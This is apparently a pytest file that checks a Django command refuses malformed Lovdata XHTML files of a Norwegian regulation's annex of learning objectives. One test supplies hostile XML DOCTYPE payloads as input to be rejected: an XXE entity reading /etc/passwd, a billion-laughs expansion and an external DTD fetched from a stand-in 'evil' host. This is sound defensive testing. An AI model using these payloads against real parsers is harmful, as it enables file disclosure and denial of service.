"""A file that is not as it should be: a message that says where, exit code 1, and nothing written."""

from __future__ import annotations

import io
from collections.abc import Callable
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command

from bench import annex_markup as markup
from objectives.annex import source

from .annex_files import annex, row_counts, write

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def a_register_of_its_own(tmp_path: Path) -> None:
    """Something is in the register already, so that «unchanged» is more than «empty»."""
    call_command("import_annex", str(write(tmp_path, annex(), "foer.xml")), stdout=io.StringIO())


@pytest.fixture
def refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Callable[..., str]:
    def import_and_expect_a_refusal(content: str | bytes | Path, *arguments: str) -> str:
        path = content if isinstance(content, Path) else write(tmp_path, content)
        before = row_counts()

        with pytest.raises(CommandError) as refusal:
            call_command("import_annex", str(path), *arguments)

        assert refusal.value.returncode == 1
        assert row_counts() == before
        return str(refusal.value)

    return import_and_expect_a_refusal


def line_of(words: str, text: str) -> str:
    """«Linje 12», the line of the file these words are on."""
    (line,) = [number for number, line in enumerate(text.splitlines(), start=1) if words in line]
    return f"Linje {line}:"


def test_a_missing_file(refused, tmp_path):
    assert "finnes ikke" in refused(tmp_path / "borte.xml")


def test_a_directory(refused, tmp_path):
    assert "er ikke en fil" in refused(tmp_path)


def test_an_empty_file(refused):
    assert "er tom" in refused(b" \n ")


def test_a_file_that_is_too_large(refused, monkeypatch):
    monkeypatch.setattr(source, "MAX_BYTES", 1000)

    assert "for stor" in refused(annex())


@pytest.mark.parametrize(
    "content",
    [
        "Bare tekst.",
        '{"on": "2026-03-01"}',
        "%PDF-1.7",
        "<a>Ikke lukket riktig</b>",
        "<svg/>",
        "<html><body><p>En annen side</p></body></html>",
        markup.document("").replace("documentHeader", "etAnnetHode"),
        markup.document("").replace("legacyID", "enAnnenId"),
        markup.document("", act="FOR-2016-13-08-1482"),
        markup.document("", act="FOR-2016-12-08-0"),
        markup.document("").replace("(spesialistforskriften)", "x" * 400),
    ],
)
def test_a_file_that_is_not_lovdata_xhtml(refused, content):
    assert "er ikke Lovdatas XHTML" in refused(content)


def test_html_that_is_not_xhtml(refused):
    text = annex(start='<html>\n<head><meta charset="utf-8"></head>\n<body>', end="</body></html>")

    assert "er ikke Lovdatas XHTML" in refused(text)


@pytest.mark.parametrize("share", [0.1, 0.3, 0.5, 0.7, 0.9, 0.99])
def test_a_truncated_file(refused, share):
    text = annex().encode()

    message = refused(text[: int(len(text) * share)])

    assert "avkortet" in message
    assert message.startswith("Linje ")


def test_a_file_truncated_in_the_middle_of_a_letter(refused):
    text = annex().encode()
    end = text.rindex("å".encode()) + 1

    assert "avkortet" in refused(text[:end])


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE html [<!ENTITY a "b">]>',
        '<!DOCTYPE lolz [\n<!ENTITY lol "lol">\n<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;">\n]>',
        '<!DOCTYPE html [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE html [<!ENTITY % dtd SYSTEM "http://example.com/evil.dtd"> %dtd;]>',
    ],
)
def test_a_doctype_with_entities(refused, doctype):
    text = annex(start=f'<?xml version="1.0"?>\n{doctype}\n<html><body>', end="</body></html>")

    message = refused(text)

    assert "Linje 2: Filen har en DOCTYPE" in message


def test_a_doctype_further_down(refused):
    text = annex().replace("<main", '\n<!DOCTYPE html [<!ENTITY a "b">]><main')

    assert "DOCTYPE" in refused(text)


def test_an_entity_that_xml_does_not_have(refused):
    text = annex(markup.paragraph("GAK-001 Beherske XX.").replace("XX", "leveren&nbsp;nå"))

    message = refused(text)

    assert "entitet" in message
    assert line_of("&nbsp;", text) in message


def test_elements_too_deep_in_each_other(refused):
    deep = source.MAX_DEPTH * "<span>" + source.MAX_DEPTH * "</span>"

    assert "for dypt" in refused(annex(markup.paragraph("GAK-001 Beherske leveren.", deep)))


def test_a_file_that_is_not_utf8(refused):
    message = refused(annex().encode("cp1252"))

    assert "ikke UTF-8" in message
    assert message.startswith("Linje ")


def test_a_file_that_says_it_is_in_another_encoding(refused):
    text = annex(start='<?xml version="1.0" encoding="ISO-8859-1"?><html><body>', end="</body></html>")

    assert "ikke UTF-8" in refused(text)


def test_a_regulation_without_annex_2(refused):
    assert "ikke noe vedlegg 2" in refused(annex().replace('data-name="vedlegg2"', 'data-name="vedlegg1"'))


def test_two_annexes_2(refused):
    second = markup.section("Vedlegg 2", name="vedlegg2", level=2)

    assert "to vedlegg 2" in refused(annex(before=second))


def test_an_annex_without_objectives(refused):
    assert "ingen læringsmål" in refused(markup.document(markup.part("A. Felles", markup.small("Tomt."))))


def test_a_table_inside_an_objective(refused):
    assert "tabell" in refused(annex(markup.paragraph("GAK-001 Beherske:", "<table><tr><td>Rad</td></tr></table>")))


def test_words_outside_the_paragraphs(refused):
    assert "utenfor avsnittene" in refused(annex(markup.paragraph("GAK-001 Beherske punksjon.") + "Løse ord."))


@pytest.mark.parametrize(
    ("heading", "message"),
    [
        ("Uten nummer", "har ikke et nummer"),
        ("B7. Feil del", "har ikke et nummer"),
        ("C15. Enda en gang", "står to ganger"),
        ("C49. " + "x" * 200, "for lang"),
    ],
)
def test_a_chapter_that_does_not_fit_the_outline(refused, heading, message):
    assert message in refused(annex(part_c=markup.chapter(heading)))


def test_a_part_the_annex_does_not_have(refused):
    assert "ikke del A, B eller C" in refused(annex(part_a=markup.part("D. En ny del")))


def test_two_headings_of_one_section(refused):
    assert "er den andre her" in refused(annex("<h5>15.13 Milt</h5>"))


@pytest.mark.parametrize("text", ["i morgen", "2026-02-30", "01.03.2026", ""])
def test_a_date_that_is_not_one(refused, text):
    assert "--valid-from" in refused(annex(), "--valid-from", text)


def test_a_date_before_the_act_was_decided(refused):
    assert "før forskriften ble vedtatt 08.12.2016" in refused(annex(), "--valid-from", "2016-12-07")


@pytest.mark.parametrize("last_change", ["", "Kongen bestemmer", "2107-03-01", "2026-02-30"])
def test_a_file_that_does_not_say_when_it_last_changed(refused, last_change):
    assert "Oppgi dagen" in refused(annex(last_change=last_change))
